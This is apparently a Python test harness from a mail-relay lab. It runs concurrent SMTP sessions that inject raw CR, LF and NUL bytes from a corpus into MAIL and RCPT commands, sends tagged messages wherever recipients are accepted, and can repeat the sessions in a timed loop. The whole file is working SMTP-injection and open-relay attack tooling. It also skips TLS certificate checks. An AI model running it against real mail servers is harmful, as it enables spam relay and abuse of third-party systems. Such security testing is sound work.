#!/usr/bin/env python3
"""attack.py - send the rows of the address corpus over the wire.

One SMTP session a row, some at once. MAIL and RCPT carry exactly the corpus's
bytes, CR, LF and NUL included. Where the recipient is accepted, a real message
follows, with a token by which it is known again wherever it comes out. One JSON
line a row tells what the other side answered; whether anything was relayed is
told by the victim alone.
"""

import argparse
import asyncio
import csv
import itertools
import json
import re
import ssl
import time

CODE = re.compile(rb"^\d{3}([ -]|\r?\n)")
DRAIN_S = 0.2
PAUSE_S = 0.05      # after a failure: a dead host is not to be hammered


def decode(field):
    """The corpus's C escapes; everything else is the UTF-8 it is written in."""
    simple = {"t": b"\t", "n": b"\n", "r": b"\r", "\\": b"\\"}
    parts = re.split(r"\\(x[0-9A-Fa-f]{2}|.)", field)
    out = bytearray(parts[0].encode())
    for escape, literal in zip(parts[1::2], parts[2::2]):
        out += bytes([int(escape[1:], 16)]) if len(escape) == 3 else simple[escape]
        out += literal.encode()
    return bytes(out)


def read_corpus(path):
    with open(path, encoding="utf-8", newline="\n") as file:
        return list(csv.DictReader(file, delimiter="\t", quoting=csv.QUOTE_NONE))


class Refused(Exception):
    """The session cannot go on: closed, silent, or not SMTP."""


class Client:
    """One session's stream; each reply is read whole, within the time."""

    def __init__(self, reader, writer, timeout):
        self.reader, self.writer, self.timeout = reader, writer, timeout

    async def reply(self):
        lines = []
        while True:
            try:
                line = await asyncio.wait_for(self.reader.readline(), self.timeout)
            except asyncio.TimeoutError as error:
                raise Refused("timeout") from error
            except (OSError, ValueError) as error:
                raise Refused("broken") from error
            if not line:
                raise Refused("closed")
            if not CODE.match(line):
                raise Refused("not SMTP: " + line[:60].decode("latin-1"))
            lines.append(line.decode("latin-1").rstrip())
            if line[3:4] != b"-":
                return int(line[:3]), " | ".join(lines)

    async def say(self, raw):
        try:
            self.writer.write(raw + b"\r\n")
            await asyncio.wait_for(self.writer.drain(), self.timeout)
        except (OSError, asyncio.TimeoutError) as error:
            raise Refused("broken") from error
        return await self.reply()

    async def secure(self, hello):
        """STARTTLS. The lab's certificates are its own, so nobody vouches for them."""
        await self.say(hello)
        code, answer = await self.say(b"STARTTLS")
        if code != 220:
            raise Refused("no TLS: " + answer)
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        try:
            await asyncio.wait_for(self.writer.start_tls(context), self.timeout)
        except (OSError, asyncio.TimeoutError) as error:
            raise Refused("no TLS: " + str(error)) from error

    async def further_replies(self):
        """What else came, where a server took one line for several commands."""
        extra = []
        while True:
            timeout, self.timeout = self.timeout, DRAIN_S
            try:
                extra.append(await self.reply())
            except Refused:
                return extra
            finally:
                self.timeout = timeout


def message(run, row):
    token = f"X-Relaywall-Lab: {run}/{row['id']}\r\n"
    return (f"From: <probe@spam.example>\r\nSubject: {row['id']}\r\n{token}"
            f"\r\n{row['family']}\r\n{token}.").encode()


async def dialogue(client, options, row, result):
    code, result["banner"] = await client.reply()
    if code != 220:
        return
    # The name tells the row to whoever records the session at the other end; where TLS ends before that, only the first comes there.
    hello = f"EHLO {row['id']}.{options.run}.example".encode()
    if options.tls:
        await client.secure(hello)
    await client.say(hello)
    code, result["mail"] = await client.say(b"MAIL " + decode(row["mail_from_raw"]))
    raw = b"RCPT " + decode(row["rcpt_raw"])
    code, result["rcpt"] = await client.say(raw)
    result["rcpt_code"] = code
    if b"\n" in raw or b"\r" in raw or len(raw) > 1000:
        extra = await client.further_replies()
        result["extra"] = [text for _, text in extra]
        if any(200 <= each < 300 for each, _ in extra):
            code = 250
    if 200 <= code < 300:
        code, result["data"] = await client.say(b"DATA")
        if code == 354:
            result["data_code"], result["data"] = await client.say(message(options.run, row))
    await client.say(b"QUIT")


async def session(options, row):
    result = {"run": options.run, "row": row["id"], "family": row["family"], "time": time.time()}
    source = (options.source, 0) if options.source else None
    try:
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(options.target, options.port, local_addr=source), options.timeout)
    except (OSError, asyncio.TimeoutError) as error:
        result["end"] = "no connection: " + (str(error) or "timeout")
        return result
    result["port"] = writer.get_extra_info("sockname")[1]
    try:
        await dialogue(Client(reader, writer, options.timeout), options, row, result)
        result["end"] = "quit"
    except Refused as error:
        result["end"] = str(error)
    finally:
        writer.close()
    return result


async def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n", maxsplit=1)[0])
    parser.add_argument("--corpus", required=True)
    parser.add_argument("--run", required=True, help="identity of this attack, in every token")
    parser.add_argument("--target", required=True)
    parser.add_argument("--out", required=True, help="file of JSON lines, overwritten")
    parser.add_argument("--port", type=int, default=25)
    parser.add_argument("--source", help="local address")
    parser.add_argument("--rows", default="", help="regular expression on the row's id")
    parser.add_argument("--expected", default="", help="regular expression on the row's label")
    parser.add_argument("--seconds", type=float, help="go through the rows again and again so long")
    parser.add_argument("--jobs", type=int, default=8, help="sessions at once")
    parser.add_argument("--tls", action="store_true", help="every session inside TLS")
    parser.add_argument("--timeout", type=float, default=30, help="seconds for each reply")
    options = parser.parse_args()

    rows = [row for row in read_corpus(options.corpus)
            if re.match(options.rows, row["id"]) and re.match(options.expected, row["expected"])]
    end = time.monotonic() + (options.seconds or 0)
    todo = itertools.takewhile(lambda _: time.monotonic() < end, itertools.cycle(rows)) if options.seconds \
        else iter(rows)
    sent = 0
    with open(options.out, "w", buffering=1, encoding="ascii") as out:

        async def worker():
            nonlocal sent
            for row in todo:
                result = await session(options, row)
                out.write(json.dumps(result) + "\n")
                sent += 1
                if result["end"] != "quit":
                    await asyncio.sleep(PAUSE_S)

        await asyncio.gather(*(worker() for _ in range(options.jobs)))
    print(f"{options.run}: {sent} sessions")


if __name__ == "__main__":
    asyncio.run(main())
